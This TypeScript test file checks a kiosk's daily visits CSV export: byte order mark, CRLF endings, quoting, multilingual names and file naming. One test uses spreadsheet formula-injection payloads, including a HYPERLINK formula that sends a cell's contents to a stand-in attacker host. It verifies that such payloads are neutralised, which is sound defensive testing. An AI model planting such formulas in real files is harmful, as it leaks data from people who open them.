import { describe, expect, it } from 'vitest';
import type { LocalizedText } from '../../../../main/contract';
import { parseCsv as parseCsvText } from '../../../../main/shared/csv';
import { DAY_CSV_COLUMNS, dayCsv, dayCsvFileName } from '../../../../main/core/reports/day-csv';
import { DAY, OFFERED, RATINGS, STANDARDS } from './sample-day';

const names = (az: string, kk: string, en: string, ru: string): LocalizedText => ({ az, kk, en, ru, ky: ru, uz: az });

const SERVICE_NAMES = new Map<string, LocalizedText>([
  ['passport', names('Şəxsiyyət vəsiqəsi, ilk dəfə', 'Жеке куәлік, "алғаш"', 'Identity card, first', 'Паспорт')],
  ['tax', names('Vergi\nuçotu', 'Салық есебі', 'Tax "registration"', 'Налоговый учёт')],
]);

/** Read back with the catalog import's CSV reader; the file must end with CRLF like every line. */
function parseCsv(text: string): string[][] {
  expect(text.endsWith('\r\n'), 'the file ends with CRLF').toBe(true);
  return parseCsvText(text);
}

const csv = () =>
  dayCsv({
    tickets: DAY,
    ratings: RATINGS,
    offeredTicketIds: OFFERED,
    serviceNames: SERVICE_NAMES,
    standardMinutes: STANDARDS,
    timeZone: 'Asia/Baku',
  });

describe('the day CSV', () => {
  it('starts with the UTF-8 byte order mark EF BB BF and ends every line with CRLF', () => {
    const bytes = Buffer.from(csv(), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const body = csv().slice(1);
    expect(body.endsWith('\r\n')).toBe(true);
    // The only bare LFs are inside the quoted Azerbaijani tax name, on its two tickets (B-001, B-003).
    expect(body.replace(/\r\n/g, '').split('\n')).toHaveLength(3);
  });

  it('reads back as one row per visit with names in the visitor language and English, quoted per RFC 4180', () => {
    const [header, ...rows] = parseCsv(csv().slice(1));
    expect(header).toEqual([...DAY_CSV_COLUMNS]);
    expect(rows).toHaveLength(6);
    const byNumber = new Map(rows.map((row) => [row[0], Object.fromEntries(header!.map((c, i) => [c, row[i]]))]));
    expect(byNumber.get('A-001')).toEqual({
      number: 'A-001',
      service_id: 'passport',
      service_name: 'Şəxsiyyət vəsiqəsi, ilk dəfə',
      service_name_en: 'Identity card, first',
      priority: '',
      language: 'az',
      desk: '1',
      state: 'done',
      issued: '2026-11-20 09:00:00',
      called: '2026-11-20 09:10:00',
      started: '2026-11-20 09:12:00',
      ended: '2026-11-20 09:24:00',
      no_show: '',
      wait_minutes: '10.0',
      service_minutes: '12.0',
      within_standard: 'yes',
      rating_offered: 'yes',
      score: '5',
      reasons: '',
    });
    expect(byNumber.get('A-002')).toMatchObject({
      service_name: 'Жеке куәлік, "алғаш"',
      language: 'kk',
      within_standard: 'no',
      score: '2',
      reasons: 'waiting-time;staff',
    });
    expect(byNumber.get('B-001')).toMatchObject({
      service_name: 'Vergi\nuçotu',
      state: 'no-show',
      no_show: '2026-11-20 10:40:00',
      wait_minutes: '30.0',
      service_minutes: '',
      within_standard: '',
      rating_offered: 'no',
    });
    expect(byNumber.get('B-002')).toMatchObject({
      service_name: 'Налоговый учёт',
      service_name_en: 'Tax "registration"',
      priority: 'elderly',
      started: '',
      service_minutes: '8.0',
      within_standard: 'yes',
      // Rated with no offer on record: a rated visit was offered.
      rating_offered: 'yes',
    });
    expect(byNumber.get('A-003')).toMatchObject({ state: 'waiting', desk: '', called: '', wait_minutes: '' });
  });

  it('rows follow the order of issue', () => {
    const rows = parseCsv(csv().slice(1)).slice(1);
    expect(rows.map((row) => row[0])).toEqual(['A-001', 'A-002', 'B-001', 'B-002', 'A-003', 'B-003']);
  });

  it('neutralises service names a spreadsheet would run as formulas (=, +, -, @) with a leading apostrophe', () => {
    const formulas = new Map<string, LocalizedText>([
      ['passport', names('=HYPERLINK("http://evil.example/?"&A1;"Bax")', '+1+1', '-2+3', '@SUM(A1:A9)')],
      ['tax', names('Vergi', 'Салық', 'Tax', 'Налог')],
    ]);
    const text = dayCsv({
      tickets: DAY,
      ratings: RATINGS,
      offeredTicketIds: new Set(),
      serviceNames: formulas,
      standardMinutes: STANDARDS,
      timeZone: 'Asia/Baku',
    });
    // As a spreadsheet sees the raw file: no cell of the passport rows starts with a formula character.
    const rawLines = text
      .slice(1)
      .split('\r\n')
      .filter((line) => line.startsWith('A-'));
    expect(rawLines).toHaveLength(3);
    for (const line of rawLines) {
      // The name in the visitor's language (az, kk or ru here), then the English one.
      expect(line).toMatch(
        /^A-\d{3},passport,("'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1;""Bax""\)"|'\+1\+1|'@SUM\(A1:A9\)),'-2\+3,/,
      );
      expect(line.split(',').every((cell) => !/^[=+\-@]/.test(cell.replace(/^"/, '')))).toBe(true);
    }
    // Read back by the kiosk's own reader, the names are as the catalog has them.
    const rows = parseCsvText(text.slice(1));
    expect(rows[1]!.slice(2, 4)).toEqual(['=HYPERLINK("http://evil.example/?"&A1;"Bax")', '-2+3']);
  });

  it('names the file after the kiosk and the day, safe for any file system', () => {
    expect(dayCsvFileName('hall/1', '2026-11-20')).toBe('visits-hall_1-2026-11-20.csv');
  });
});
